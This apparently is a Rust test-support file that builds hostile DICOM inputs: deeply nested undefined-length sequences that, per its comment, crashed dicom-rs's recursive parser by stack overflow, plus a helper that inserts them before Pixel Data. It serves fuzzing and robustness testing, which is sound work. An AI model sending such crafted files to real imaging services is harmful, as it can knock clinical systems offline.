//! Hostile inputs for tests, fuzz seeds and attack runs: well-formed bytes that once took a
//! service down. Never used on a request path.

/// `levels` Content Sequences (0040,A730) of undefined length, each holding one item holding
/// the next, in explicit VR little endian: the element bytes only (put them in a data set, e.g.
/// with [`insert_before_pixel_data`]). 10,000 levels overflowed dicom-rs's recursive parser on
/// a 2 MiB thread stack.
pub fn nested_dicom_sequences(levels: usize) -> Vec<u8> {
    const SEQUENCE: [u8; 12] = [
        0x40, 0x00, 0x30, 0xA7, b'S', b'Q', 0, 0, 0xFF, 0xFF, 0xFF, 0xFF,
    ];
    const ITEM: [u8; 8] = [0xFE, 0xFF, 0x00, 0xE0, 0xFF, 0xFF, 0xFF, 0xFF];
    const ITEM_END: [u8; 8] = [0xFE, 0xFF, 0x0D, 0xE0, 0, 0, 0, 0];
    const SEQUENCE_END: [u8; 8] = [0xFE, 0xFF, 0xDD, 0xE0, 0, 0, 0, 0];
    let mut out = Vec::with_capacity(levels * 36);
    for _ in 0..levels {
        out.extend_from_slice(&SEQUENCE);
        out.extend_from_slice(&ITEM);
    }
    for _ in 0..levels {
        out.extend_from_slice(&ITEM_END);
        out.extend_from_slice(&SEQUENCE_END);
    }
    out
}

/// `dicom` (a Part 10 file) with `elements` inserted just before its Pixel Data (7FE0,0010);
/// `None` if it has none.
pub fn insert_before_pixel_data(dicom: &[u8], elements: &[u8]) -> Option<Vec<u8>> {
    let at = dicom
        .windows(4)
        .position(|w| w == [0xE0, 0x7F, 0x10, 0x00])?;
    let mut out = dicom.to_vec();
    out.splice(at..at, elements.iter().copied());
    Some(out)
}
